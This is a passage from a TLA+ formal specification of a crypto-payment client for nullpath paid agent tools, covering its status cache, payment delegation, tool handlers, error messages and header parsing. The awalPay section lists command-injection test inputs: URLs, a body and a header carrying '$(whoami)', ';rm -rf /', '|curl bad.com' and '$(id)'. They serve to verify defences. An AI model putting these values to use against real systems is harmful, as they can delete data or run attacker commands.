    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, calls, ticks,
                   nonces, probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* new Response(body, {status}) with a body that is not null: a status
\* outside 200..599 is a RangeError, a null-body status a TypeError
NullBodyStatuses == {101, 204, 205, 304}

ResponseInitOk(status) ==
    status >= 200 /\ status <= 599 /\ status \notin NullBodyStatuses

\* Mutant: a delegate that failed is followed by a local signature
AfterAwalPay_FallBackToSigning(c, out) ==
    LET r == AwalPayResult(out) IN
    IF r.threw \/ ~r.success
    THEN [c EXCEPT !.pc = "signing", !.paid = r, !.signs = @ + 1]
    ELSE [c EXCEPT !.pc = "done", !.paid = r,
                   !.result = Returned(IF r.statusCode \in {NoStatusCode, 0} THEN 200
                                       ELSE r.statusCode, "awal")]

\* handleAwalPayment after awalPay: a throw of awalPay is rethrown, a
\* failure becomes AwalPaymentError, a success a synthesized Response of
\* status result.statusCode || 200; a throw of the Response constructor is
\* wrapped in AwalPaymentError.
AfterAwalPay(c, out) ==
    LET r      == AwalPayResult(out)
        status == IF r.statusCode \in {NoStatusCode, 0} THEN 200 ELSE r.statusCode
    IN  IF r.threw
        THEN [c EXCEPT !.pc = "failed", !.paid = r,
                       !.result = Thrown("AwalPaymentError", r.error, 0)]
        ELSE IF ~r.success
        THEN [c EXCEPT !.pc = "failed", !.paid = r,
                       !.result = Thrown("AwalPaymentError",
                                         IF r.error # "" THEN r.error
                                         ELSE "stderr text", 0)]
        ELSE IF ~ResponseInitOk(status)
        THEN [c EXCEPT !.pc = "failed", !.paid = r,
                       !.result = Thrown("AwalPaymentError", "response_init", status)]
        ELSE [c EXCEPT !.pc = "done", !.paid = r,
                       !.result = Returned(status, "awal")]

AwalPayReturn(p) ==
    /\ call[p].pc = "paying"
    /\ \E out \in AwalPayOutcomes :
         call' = [call EXCEPT ![p] = AfterAwalPay(call[p], out)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, calls, ticks,
                   nonces, probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

-----------------------------------------------------------------------------
(* wallet.ts: isPaymentConfigured(), callers of getPaymentConfig and so of  *)
(* checkAwalStatus that run concurrently *)

\* A caller of checkAwalStatus. preClear: clearAwalCache ran while its probe
\* was in flight; wrote: the status the cache holds was stored by this
\* caller's probe, one that was in flight across a clearAwalCache ("stale")
\* or not ("fresh").
CheckIdle ==
    [pc |-> "idle", n |-> 0, fromCache |-> FALSE, out |-> "", status |-> NoStatus,
     configured |-> FALSE, preClear |-> FALSE, wrote |-> ""]

\* isPaymentConfigured() once checkAwalStatus has returned awalStatus
isPaymentConfigured(e, awalStatus) == getPaymentConfig(e, awalStatus).method # "none"

\* checkAwalStatus answers from the cache
CheckCached(q) ==
    /\ check[q].pc \in {"idle", "done"}
    /\ check[q].n < MaxChecks
    /\ CacheFresh(awalStatusCache, awalStatusCacheTime, now)
    /\ check' = [check EXCEPT ![q] =
                   [pc |-> "done", n |-> check[q].n + 1, fromCache |-> TRUE,
                    out |-> "", status |-> awalStatusCache,
                    configured |-> isPaymentConfigured(env, awalStatusCache),
                    preClear |-> FALSE, wrote |-> check[q].wrote]]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, nonces, probeLog, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* checkAwalStatus spawns the status probe
CheckProbe(q) ==
    /\ check[q].pc \in {"idle", "done"}
    /\ check[q].n < MaxChecks
    /\ ~CacheFresh(awalStatusCache, awalStatusCacheTime, now)
    /\ check' = [check EXCEPT ![q] =
                   [CheckIdle EXCEPT !.pc = "probing", !.n = check[q].n + 1,
                                     !.wrote = check[q].wrote]]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, nonces, probeLog, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* The probe ends: the status is stored and returned, or the call throws
CheckReturn(q) ==
    /\ check[q].pc = "probing"
    /\ \E out \in ProbeOutcomes :
         LET r == ProbeResult(out) IN
         IF r.threw
         THEN /\ check' = [check EXCEPT ![q].pc = "failed", ![q].out = out]
              /\ UNCHANGED <<awalStatusCache, awalStatusCacheTime, probeLog>>
         ELSE /\ awalStatusCache' = r.status
              /\ awalStatusCacheTime' = now
              /\ probeLog' = [doneAt |-> now, cleared |-> FALSE]
              /\ check' = [Overwritten(check) EXCEPT
                                 ![q].pc = "done", ![q].out = out,
                                 ![q].status = r.status,
                                 ![q].configured = isPaymentConfigured(env, r.status),
                                 ![q].preClear = FALSE,
                                 ![q].wrote = IF check[q].preClear THEN "stale"
                                              ELSE "fresh"]
    /\ UNCHANGED <<env, now, call, calls, ticks, nonces, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

-----------------------------------------------------------------------------
(* The environment: the clock, and clearAwalCache() *)

Tick ==
    /\ ticks < MaxTicks
    /\ \E d \in TickSteps : now' = now + d
    /\ ticks' = ticks + 1
    /\ UNCHANGED <<env, awalStatusCache, awalStatusCacheTime, call, calls, nonces,
                   probeLog, check, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

clearAwalCache ==
    /\ awalStatusCache' = NoStatus
    /\ awalStatusCacheTime' = 0
    /\ probeLog' = [probeLog EXCEPT !.cleared = TRUE]
    /\ check' = [q \in Checkers |->
                   [check[q] EXCEPT !.wrote = "",
                                    !.preClear = (check[q].pc = "probing")]]
    /\ UNCHANGED <<env, now, call, calls, ticks, nonces, pay, parse,
                   sign, fmt, tool,
                   keyRuns>>

-----------------------------------------------------------------------------
(* index.ts: the paid tools execute_agent and register_agent *)

PaidTools == {"execute_agent", "register_agent"}

NULLPATH_API_URL == "https://nullpath.com/api/v1"

\* The url and options a paid tool hands to fetchWithPayment: POST with a
\* JSON body and no headers
ToolInput(name) ==
    IF name = "execute_agent"
    THEN [url |-> NULLPATH_API_URL \o "/execute",
          options |-> [method |-> "POST", body |-> "{\"input\":1}", headers |-> <<>>]]
    ELSE [url |-> NULLPATH_API_URL \o "/agents",
          options |-> [method |-> "POST", body |-> "{\"name\":\"a\"}", headers |-> <<>>]]

\* error.message of what fetchWithPayment threw: which message it is, and
\* the text taken from a response body
MessageOf(r) == <<r.detail, r.text>>

\* The object a handler returns: a member that is undefined is left out by
\* JSON.stringify.  payment is the _payment annotation of a paid result.
ToolObject(error, message, hint, requirements, cost, payment) ==
    [error |-> error, message |-> message, hint |-> hint,
     requirements |-> requirements, cost |-> cost, payment |-> payment]

\* Members that are left out: no message, no requirements, no _payment
NoMessage == <<>>

NoFailedRequirements == [recipient |-> Undefined, amount |-> <<>>]

NoPayment == [status |-> Undefined, from |-> Undefined, cost |-> Undefined]

NoObject == ToolObject(Undefined, NoMessage, Undefined, NoFailedRequirements, Undefined, NoPayment)

\* A handler returns value, or throws error
HandlerReturns(value) == [threw |-> FALSE, value |-> value, error |-> NoError, message |-> <<>>]

HandlerThrows(class, message) ==
    [threw |-> TRUE, value |-> NoObject, error |-> JsError(class, ""), message |-> message]

\* requirements of the 'Payment failed' object: recipient and formatted
\* amount when the error carries requirements, undefined otherwise
FailedRequirements(r) ==
    IF r.requirements = NoRequirements THEN NoFailedRequirements
    ELSE [recipient |-> r.requirements.recipient,
          amount |-> formatUsdcAmount(r.requirements.amount)]

\* handleExecuteAgent(args), r being what fetchWithPayment does and json
\* whether the body of an ok response parses as JSON
handleExecuteAgent(e, r, json) ==
    IF ~isWalletConfigured(e)
    THEN HandlerReturns(ToolObject("Wallet not configured", <<"set_key_execute", "">>,
                                   "claude_desktop_config", NoFailedRequirements, Undefined,
                                   NoPayment))
    ELSE IF r.kind = "response"
    THEN IF ~Ok(r.status) THEN HandlerThrows("Error", <<"api_error", "">>)
         ELSE IF ~json THEN HandlerThrows("SyntaxError", <<"json", "">>)
         ELSE HandlerReturns(ToolObject(Undefined, NoMessage, Undefined, NoFailedRequirements,
                                        Undefined,
                                        [status |-> "paid",
                                         from |-> StrOr(getWalletAddress(e), "unknown"),
                                         cost |-> Undefined]))
    ELSE IF r.error = "WalletNotConfiguredError"
    THEN HandlerReturns(ToolObject("Wallet not configured", MessageOf(r),
                                   "add_key_to_environment", NoFailedRequirements, Undefined,
                                   NoPayment))
    ELSE IF r.error = "PaymentRequiredError"
    THEN HandlerReturns(ToolObject("Payment failed", MessageOf(r), Undefined,
                                   FailedRequirements(r), Undefined, NoPayment))
    ELSE IF r.error = "PaymentSigningError"
    THEN HandlerReturns(ToolObject("Payment signing failed", MessageOf(r),
                                   "check_usdc_balance", NoFailedRequirements, Undefined,
                                   NoPayment))
    ELSE HandlerThrows(r.error, MessageOf(r))

\* handleRegisterAgent(args)
handleRegisterAgent(e, r, json) ==
    IF ~isWalletConfigured(e)
    THEN HandlerReturns(ToolObject("Wallet not configured", <<"set_key_register", "">>,
                                   "registration_cost_and_config", NoFailedRequirements,
                                   Undefined, NoPayment))
    ELSE IF r.kind = "response"
    THEN IF ~Ok(r.status) THEN HandlerThrows("Error", <<"api_error", "">>)
         ELSE IF ~json THEN HandlerThrows("SyntaxError", <<"json", "">>)
         ELSE HandlerReturns(ToolObject(Undefined, NoMessage, Undefined, NoFailedRequirements,
                                        Undefined,
                                        [status |-> "paid",
                                         from |-> StrOr(getWalletAddress(e), "unknown"),
                                         cost |-> "$0.10 USDC"]))
    ELSE IF r.error = "WalletNotConfiguredError"
    THEN HandlerReturns(ToolObject("Wallet not configured", MessageOf(r), Undefined,
                                   NoFailedRequirements,
                                   "$0.10 USDC required for registration", NoPayment))
    ELSE IF r.error = "PaymentRequiredError"
    THEN HandlerReturns(ToolObject("Payment failed", MessageOf(r), Undefined,
                                   FailedRequirements(r), Undefined, NoPayment))
    ELSE IF r.error = "PaymentSigningError"
    THEN HandlerReturns(ToolObject("Payment signing failed", MessageOf(r),
                                   "ensure_usdc_balance", NoFailedRequirements, Undefined,
                                   NoPayment))
    ELSE HandlerThrows(r.error, MessageOf(r))

\* What the CallToolRequestSchema handler answers: the handler's value as
\* JSON text, or, when the handler threw, the text 'Error: ' followed by the
\* message, with isError set
CallToolResult(h) ==
    IF h.threw
    THEN [isError |-> TRUE, object |-> NoObject, text |-> <<"Error: ">> \o h.message]
    ELSE [isError |-> FALSE, object |-> h.value, text |-> <<>>]

CallTool(name, e, r, json) ==
    CallToolResult(IF name = "execute_agent" THEN handleExecuteAgent(e, r, json)
                   ELSE handleRegisterAgent(e, r, json))

\* No tool call has been made
ToolIdle ==
    [pc |-> "idle", name |-> "", result |-> CallToolResult(HandlerReturns(NoObject))]

\* Mutant: the handler calls fetchWithPayment without asking isWalletConfigured
ToolCall_NoWalletCheck(p) ==
    /\ tool.pc \in {"idle", "returned"}
    /\ call[p].pc \in {"idle", "done", "failed"}
    /\ calls < MaxCalls
    /\ \E name \in PaidTools :
         LET inp == ToolInput(name) IN
         /\ tool' = [ToolIdle EXCEPT !.pc = "fetching", !.name = name]
         /\ call' = [call EXCEPT ![p] =
                       IF CacheFresh(awalStatusCache, awalStatusCacheTime, now)
                       THEN InitialFetch([Idle EXCEPT !.url = inp.url,
                                                      !.options = inp.options,
                                                      !.fromCache = TRUE],
                                         awalStatusCache)
                       ELSE [Idle EXCEPT !.url = inp.url, !.options = inp.options,
                                         !.execs = <<AwalStatusExec>>,
                                         !.pc = "probing"]]
    /\ calls' = calls + 1
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, ticks, nonces,
                   probeLog, check, pay, parse, sign, fmt,
                   keyRuns>>

\* A paid tool is called: without NULLPATH_WALLET_KEY the handler answers at
\* once, otherwise it runs up to the first suspension of fetchWithPayment
ToolCall(p) ==
    /\ tool.pc \in {"idle", "returned"}
    /\ call[p].pc \in {"idle", "done", "failed"}
    /\ calls < MaxCalls
    /\ \E name \in PaidTools :
         LET inp == ToolInput(name) IN
         IF ~isWalletConfigured(env)
         THEN /\ tool' = [pc |-> "returned", name |-> name,
                          result |-> CallTool(name, env, NoResult, FALSE)]
              /\ call' = call
         ELSE /\ tool' = [ToolIdle EXCEPT !.pc = "fetching", !.name = name]
              /\ call' = [call EXCEPT ![p] =
                            IF CacheFresh(awalStatusCache, awalStatusCacheTime, now)
                            THEN InitialFetch([Idle EXCEPT !.url = inp.url,
                                                           !.options = inp.options,
                                                           !.fromCache = TRUE],
                                              awalStatusCache)
                            ELSE [Idle EXCEPT !.url = inp.url, !.options = inp.options,
                                              !.execs = <<AwalStatusExec>>,
                                              !.pc = "probing"]]
    /\ calls' = IF isWalletConfigured(env) THEN calls + 1 ELSE calls
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, ticks, nonces,
                   probeLog, check, pay, parse, sign, fmt,
                   keyRuns>>

\* fetchWithPayment has returned or thrown: the rest of the handler, and the
\* answer of the CallToolRequestSchema handler
ToolReturn(p) ==
    /\ tool.pc = "fetching"
    /\ call[p].pc \in {"done", "failed"}
    /\ \E json \in BOOLEAN :
         tool' = [tool EXCEPT !.pc = "returned",
                              !.result = CallTool(tool.name, env, call[p].result, json)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls, ticks,
                   nonces, probeLog, check, pay, parse, sign, fmt,
                   keyRuns>>

-----------------------------------------------------------------------------
(* What the payment flow says about NULLPATH_WALLET_KEY *)

\* The message of the error privateKeyToAccount throws for a scalar outside
\* 1..n-1 belongs to the library: it states the range alone, or the range
\* followed by the scalar it was given
ScalarMessages == {"range", "range_and_value"}

\* A scalar as a number is printed: no leading zeros, digits in one case
ScalarNumeral(privateKey) ==
    LET digits == [i \in 1..64 |-> HexDigits[HexValue(privateKey[i + 2]) + 1]]
        nonzero == {i \in 1..64 : digits[i] # "0"}
        first == IF nonzero = {} THEN 64
                 ELSE CHOOSE i \in nonzero : \A j \in nonzero : i <= j
    IN  SubSeq(digits, first, 64)

\* error.message of the error createWallet() throws for the key text
\* rawKey: fixed texts as one piece each, what is computed character by
\* character
CreateWalletMessage(rawKey, scalarMessage) ==
    LET w        == CreateWalletOf(rawKey)
        trimmed  == Trim(rawKey)
        prefixed == IF StartsWith0x(trimmed) THEN trimmed ELSE Hex0x(trimmed)
    IN  CASE w.error.message = "not_configured" ->
               <<"Wallet not configured. Set NULLPATH_WALLET_KEY environment variable with your private key.">>
          [] w.error.message = "length" ->
               <<"Invalid private key: ", "Expected 64 hex characters, got ">>
                   \o ToDecimal(Big(0, Len(prefixed) - 2))
          [] w.error.message = "not_hex" ->
               <<"Invalid private key: ", "Must contain only hexadecimal characters">>
          [] w.error.message = "invalid_scalar" ->
               IF scalarMessage = "range"
               THEN <<"expected valid private key: 1 <= n < N">>
               ELSE <<"expected valid private key: 1 <= n < N", ", got ">>
                        \o ScalarNumeral(prefixed)
          [] OTHER -> <<>>

\* No error: nothing is said
NothingSaid == [failed |-> FALSE, createWallet |-> <<>>, fetchWithPayment |-> <<>>, tool |-> <<>>]

\* What a run with the key text rawKey says about the key once a 402 with
\* requirements has come in: the message of the error of createWallet(),
\* of the error fetchWithPayment throws (handleDirectPayment wraps
\* InvalidPrivateKeyError), and the text execute_agent answers with
KeyObservation(rawKey, scalarMessage) ==
    LET w       == CreateWalletOf(rawKey)
        message == CreateWalletMessage(rawKey, scalarMessage)
        r       == WalletFailure(w.error, 402)
        thrown  == IF r.error = "PaymentSigningError"
                   THEN <<"Invalid wallet configuration: ">> \o message
                   ELSE message
        e       == [useAwal |-> "", walletKey |-> IF rawKey = <<>> THEN "" ELSE "set"]
        answer  == CallToolResult(handleExecuteAgent(e, r, FALSE))
    IN  IF w.ok THEN NothingSaid
        ELSE [failed |-> TRUE, createWallet |-> message, fetchWithPayment |-> thrown,
              tool |-> IF rawKey = <<>>
                       THEN <<"Set NULLPATH_WALLET_KEY environment variable with your private key to execute paid agents.">>
                       ELSE IF answer.isError THEN <<"Error: ">> \o thrown
                       ELSE thrown]

\* The key texts of the two runs: those of createWallet, and for the texts
\* that are refused a second one of the same length with other digits
KeyRunTexts ==
    WalletKeyTexts \cup
    { SubSeq(Hex64, 2, 64), Hex0x(SubSeq(Hex64, 3, 12)),
      [i \in 1..64 |-> IF i = 7 THEN "g" ELSE "2"] }

\* No run has been made
KeyRunsIdle == [keys |-> <<<<>>, <<>>>>, scalarMessage |-> "range", done |-> {},
                seen |-> <<NothingSaid, NothingSaid>>]

\* Run i of the two is made
KeyRun(i) ==
    /\ i \notin keyRuns.done
    /\ keyRuns' = [keyRuns EXCEPT !.done = @ \cup {i},
                                  !.seen[i] = KeyObservation(keyRuns.keys[i],
                                                            keyRuns.scalarMessage)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls, ticks,
                   nonces, probeLog, check, pay, parse, sign, fmt, tool>>

-----------------------------------------------------------------------------
(* The specification of fetchWithPayment and the status cache *)

PayIdle ==
    [pc |-> "idle", url |-> "",
     options |-> [method |-> Undefined, body |-> Undefined, headers |-> <<>>],
     execs |-> <<>>, out |-> AwalOut("", NoText, NoText), result |-> NoPayResult,
     handled |-> NoResult]

\* signPayment has not been called
SignIdle ==
    [pc |-> "idle", wallet |-> KeyWallet, requirements |-> NoRequirements, nonce |-> "",
     out |-> NoSignOut, result |-> SignFail(NoError, NoError, 0), token |-> <<>>,
     decoded |-> <<>>, reencoded |-> <<>>]

\* formatUsdcAmount has not been called
FmtIdle == [pc |-> "idle", atomic |-> Big(0, 0), text |-> <<>>]

\* parsePaymentRequired has not been called
ParseIdle == [pc |-> "idle", response |-> Response(0, NoPayload), nowS |-> 0, result |-> ParsedNull]

Envs == [useAwal : UseAwalValues, walletKey : WalletKeyValues]

Init ==
    /\ env \in Envs
    /\ now = StartTime
    /\ awalStatusCache = NoStatus
    /\ awalStatusCacheTime = 0
    /\ call = [p \in Procs |-> Idle]
    /\ calls = 0
    /\ ticks = 0
    /\ nonces = 0
    /\ probeLog = [doneAt |-> -1, cleared |-> FALSE]
    /\ check = [q \in Checkers |-> CheckIdle]
    /\ pay = PayIdle
    /\ parse = ParseIdle
    /\ sign = SignIdle
    /\ fmt = FmtIdle
    /\ tool = ToolIdle
    /\ keyRuns = KeyRunsIdle

Next ==
    \/ \E p \in Procs : StartCached(p)
    \/ \E p \in Procs : StartProbe(p)
    \/ \E p \in Procs : ProbeReturn(p)
    \/ \E p \in Procs : FirstNot402(p)
    \/ \E p \in Procs : First402None(p)
    \/ \E p \in Procs : First402Awal(p)
    \/ \E p \in Procs : First402Direct(p)
    \/ \E p \in Procs : SignReturn(p)
    \/ \E p \in Procs : RetryResponse(p)
    \/ \E p \in Procs : AwalPayReturn(p)
    \/ Tick
    \/ clearAwalCache

Spec == Init /\ [][Next]_vars

\* What the code's timeouts make sure of: execFile is given a timeout
\* (awal.ts:99, awal.ts:209), so the status probe and the pay command come
\* to an end, and signTypedData of a local account computes without waiting
\* for anyone.  The two fetch calls are given no timeout and no signal of
\* their own: nothing makes a response arrive.
Timeouts ==
    \A p \in Procs : /\ WF_vars(ProbeReturn(p))
                      /\ WF_vars(AwalPayReturn(p))
                      /\ WF_vars(SignReturn(p))

SpecLive == Spec /\ Timeouts

-----------------------------------------------------------------------------
(* The specification of the status cache under concurrent callers *)

\* Environments of the cache runs: nothing set, and awal forced beside a key
EnvsCache == { [useAwal |-> "", walletKey |-> ""],
               [useAwal |-> "true", walletKey |-> "valid"] }

InitCache ==
    /\ env \in EnvsCache
    /\ now = StartTime
    /\ awalStatusCache = NoStatus
    /\ awalStatusCacheTime = 0
    /\ call = [p \in Procs |-> Idle]
    /\ calls = 0
    /\ ticks = 0
    /\ nonces = 0
    /\ probeLog = [doneAt |-> -1, cleared |-> FALSE]
    /\ check = [q \in Checkers |-> CheckIdle]
    /\ pay = PayIdle
    /\ parse = ParseIdle
    /\ sign = SignIdle
    /\ fmt = FmtIdle
    /\ tool = ToolIdle
    /\ keyRuns = KeyRunsIdle

NextCache ==
    \/ \E q \in Checkers : CheckCached(q)
    \/ \E q \in Checkers : CheckProbe(q)
    \/ \E q \in Checkers : CheckReturn(q)
    \/ Tick
    \/ clearAwalCache

SpecCache == InitCache /\ [][NextCache]_vars


-----------------------------------------------------------------------------
(* The specification of awalPay(url, options) called on its own *)

PayUrls == {"https://example.com/api", "https://evil.com/$(whoami)",
            "https://evil.com/;rm -rf /", "https://evil.com/|curl bad.com"}

PayMethods == {Undefined, "GET", "POST", "DELETE", "get"}

PayBodies == {Undefined, "", "{\"cmd\": \"$(whoami)\"}"}

PayHeaderMaps ==
    { <<>>,
      << <<"X-Custom", "header">> >>,
      << <<"Content-Type", "application/json">>, <<"X-Evil", "$(id);a|b">> >> }

InitPay ==
    /\ env = [useAwal |-> "", walletKey |-> ""]
    /\ now = StartTime
    /\ awalStatusCache = NoStatus
    /\ awalStatusCacheTime = 0
    /\ call = [p \in Procs |-> Idle]
    /\ calls = 0
    /\ ticks = 0
    /\ nonces = 0
    /\ probeLog = [doneAt |-> -1, cleared |-> FALSE]
    /\ check = [q \in Checkers |-> CheckIdle]
    /\ parse = ParseIdle
    /\ sign = SignIdle
    /\ fmt = FmtIdle
    /\ tool = ToolIdle
    /\ keyRuns = KeyRunsIdle
    /\ \E url \in PayUrls, method \in PayMethods, body \in PayBodies,
          headers \in PayHeaderMaps :
         pay = [PayIdle EXCEPT !.url = url,
                               !.options = [method |-> method, body |-> body,
                                            headers |-> headers]]

\* awalPay up to the await of execFileAsync
AwalPayCall ==
    /\ pay.pc = "idle"
    /\ pay' = [pay EXCEPT !.pc = "running",
                          !.execs = Append(@, AwalPayExec(pay.url, pay.options))]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, nonces, probeLog, check, parse,
                   sign, fmt, tool,
                   keyRuns>>

\* The invocation ends: awalPay returns or throws; handled is what
\* handleAwalPayment makes of the same outcome
AwalPayDone ==
    /\ pay.pc = "running"
    /\ \E out \in ExecOutcomes :
         pay' = [pay EXCEPT !.pc = "done", !.out = out, !.result = AwalPayResult(out),
                            !.handled = AfterAwalPay([Idle EXCEPT !.pc = "paying"],
                                                     out).result]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, nonces, probeLog, check, parse,
                   sign, fmt, tool,
                   keyRuns>>

NextPay == AwalPayCall \/ AwalPayDone

SpecAwalPay == InitPay /\ [][NextPay]_vars


-----------------------------------------------------------------------------
(* The specification of parsePaymentRequired(response) called on its own *)

\* 2^53 + 1, 2^53 + 2 and 2^53 + 3 in limbs
BigAmounts == {Big(TwoTo23, 1), Big(TwoTo23, 2), Big(TwoTo23, 3)}

ParseAmounts ==
    {JAbsent, JNum(0), JNum(1000), JStr(1000), JStr(0), JNum(-5), JStr(-5), JFrac(1), JText}
    \cup {JBigNum(b.h, b.v) : b \in BigAmounts}
    \cup {JBigStr(b.h, b.v) : b \in {Big(TwoTo23, 1)}}

ParseValidBefores ==
    {JAbsent, JNum(0), JStr(0), JNum(-5), JNum(StartS), JNum(StartS + 45)}

\* The decoded objects parsePaymentRequired is checked on
ParsePayloads ==
    { Payload("X-PAYMENT-REQUIRED", TRUE, recipient, payee, amount, maxAmount,
              asset, usdcAddress, network, chainId, validAfter, validBefore) :
        recipient \in {"", "0xRecipient"},
        payee \in {"", "0xPayee"},
        amount \in ParseAmounts,
        maxAmount \in {JAbsent, JNum(250000)},
        asset \in {"", "0xAsset"},
        usdcAddress \in {"", "0xUsdc"},
        network \in {JAbsent, JNum(1)},
        chainId \in {JAbsent, JStr(84532)},
        validAfter \in {JAbsent, JNum(50)},
        validBefore \in ParseValidBefores }

\* A payload every member of which is given
FullPayload ==
    Payload("X-Payment-Required", TRUE, "0xRecipient", "0xPayee", JStr(1000),
            JNum(250000), "0xAsset", "0xUsdc", JNum(1), JStr(84532), JNum(50),
            JNum(StartS + 45))

\* The responses: not a 402, a 402 without the header or with an empty
\* one, with a header that is not JSON, with the legacy spelling, and with
\* each of the decoded objects
ParseResponses ==
    { Response(200, NoPayload), Response(200, FullPayload), Response(404, FullPayload),
      Response(402, NoPayload),
      Response(402, [NoPayload EXCEPT !.header = "empty"]),
      Response(402, [NoPayload EXCEPT !.header = "X-PAYMENT-REQUIRED"]),
      Response(402, FullPayload) }
    \cup { Response(402, h) : h \in ParsePayloads }

InitParse ==
    /\ env = [useAwal |-> "", walletKey |-> ""]
    /\ now = StartTime
    /\ awalStatusCache = NoStatus
    /\ awalStatusCacheTime = 0
    /\ call = [p \in Procs |-> Idle]
    /\ calls = 0
    /\ ticks = 0
    /\ nonces = 0
    /\ probeLog = [doneAt |-> -1, cleared |-> FALSE]
    /\ check = [q \in Checkers |-> CheckIdle]
    /\ pay = PayIdle
    /\ \E response \in ParseResponses :
         parse = [ParseIdle EXCEPT !.response = response]
    /\ sign = SignIdle
    /\ fmt = FmtIdle
    /\ tool = ToolIdle
    /\ keyRuns = KeyRunsIdle

\* parsePaymentRequired(response), from call to return or throw
ParseCall ==
    /\ parse.pc = "idle"
    /\ parse' = [parse EXCEPT !.pc = "done", !.nowS = now \div 1000,
                              !.result = parsePaymentRequired(parse.response,
                                                              now \div 1000)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, nonces, probeLog, check, pay, sign, fmt, tool,
                   keyRuns>>

\* The clock advances before the call
ParseTick == parse.pc = "idle" /\ Tick

NextParse == ParseCall \/ ParseTick

SpecParse == InitParse /\ [][NextParse]_vars

-----------------------------------------------------------------------------
(* The specification of signPayment and encodePaymentHeader called directly *)

\* A wallet key and no awal
EnvSigning == [useAwal |-> "", walletKey |-> "valid"]

InitSign ==
    /\ env = EnvSigning
    /\ now = StartTime
    /\ awalStatusCache = NoStatus
    /\ awalStatusCacheTime = 0
    /\ call = [p \in Procs |-> Idle]
    /\ calls = 0
    /\ ticks = 0
    /\ nonces = 0
    /\ probeLog = [doneAt |-> -1, cleared |-> FALSE]
    /\ check = [q \in Checkers |-> CheckIdle]
    /\ pay = PayIdle
    /\ parse = ParseIdle
    /\ sign = SignIdle
    /\ fmt = FmtIdle
    /\ tool = ToolIdle
    /\ keyRuns = KeyRunsIdle

\* signPayment(wallet, requirements) up to the await of signTypedData: the
\* mismatch check, the nonce, and the checks of signTransferAuthorization
\* that come before the signer is called
SignPaymentCall ==
    /\ sign.pc = "idle"
    /\ \E wallet \in SignWallets, requirements \in SignRequirements :
         LET nonce == IF RequirementsMismatch(requirements) THEN ""
                      ELSE NonceName(nonces + 1)
             r     == signPayment(wallet, requirements, nonce, NoSignOut)
             s1    == [sign EXCEPT !.wallet = wallet, !.requirements = requirements,
                                   !.nonce = nonce]
         IN  /\ sign' = IF r.signerCalls = 0
                        THEN [s1 EXCEPT !.pc = "done", !.result = r]
                        ELSE [s1 EXCEPT !.pc = "signing"]
             /\ nonces' = IF nonce = "" THEN nonces ELSE nonces + 1
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, probeLog, check, pay, parse, fmt,
                   tool, keyRuns>>

\* signTypedData comes back: signPayment returns or throws
SignPaymentDone ==
    /\ sign.pc = "signing"
    /\ \E out \in SignerOutcomes :
         sign' = [sign EXCEPT !.pc = "done", !.out = out,
                              !.result = signPayment(sign.wallet, sign.requirements,
                                                     sign.nonce, out)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, nonces, probeLog, check, pay, parse, fmt,
                   tool, keyRuns>>

\* encodePaymentHeader(signed) of the authorization signPayment returned
EncodeCall ==
    /\ sign.pc = "done"
    /\ sign.result.ok
    /\ sign' = [sign EXCEPT !.pc = "encoded",
                            !.token = encodePaymentHeader(sign.result.signed)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, nonces, probeLog, check, pay, parse, fmt,
                   tool, keyRuns>>

\* The receiver's side: the token decoded and parsed, and the parsed object
\* encoded again
DecodeCall ==
    /\ sign.pc = "encoded"
    /\ sign' = [sign EXCEPT !.pc = "decoded",
                            !.decoded = DecodePaymentHeader(sign.token),
                            !.reencoded = Base64(Bytes(JsonStringify(
                                              DecodePaymentHeader(sign.token))))]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
                   ticks, nonces, probeLog, check, pay, parse, fmt,
                   tool, keyRuns>>

NextSign == SignPaymentCall \/ SignPaymentDone \/ EncodeCall \/ DecodeCall

SpecSign == InitSign /\ [][NextSign]_vars

-----------------------------------------------------------------------------
(* The specification of formatUsdcAmount called directly *)

\* Amounts of the tests (1000, 10000, 100000, 1000000, 10000000, 0,
\* 2^53 + 1) and amounts around the powers of ten and of two
FormatAmounts ==
    { Big(h, v) : h \in {0, 1, 1000, TwoTo23, TwoTo23 + 5},
                  v \in {0, 1, 9, 10, 999, 1000, 10000, 100000, 999999, 1000000,
                         1000001, 10000000, 123456789, Limb - 1} }

InitFormat ==
    /\ env = [useAwal |-> "", walletKey |-> ""]
    /\ now = StartTime
    /\ awalStatusCache = NoStatus
    /\ awalStatusCacheTime = 0
    /\ call = [p \in Procs |-> Idle]
    /\ calls = 0
    /\ ticks = 0
    /\ nonces = 0
    /\ probeLog = [doneAt |-> -1, cleared |-> FALSE]
    /\ check = [q \in Checkers |-> CheckIdle]
    /\ pay = PayIdle
    /\ parse = ParseIdle
    /\ sign = SignIdle
    /\ \E atomic \in FormatAmounts : fmt = [FmtIdle EXCEPT !.atomic = atomic]
    /\ tool = ToolIdle
    /\ keyRuns = KeyRunsIdle

FormatCall ==
    /\ fmt.pc = "idle"
    /\ fmt' = [fmt EXCEPT !.pc = "done", !.text = formatUsdcAmount(fmt.atomic)]
    /\ UNCHANGED <<env, now, awalStatusCache, awalStatusCacheTime, call, calls,
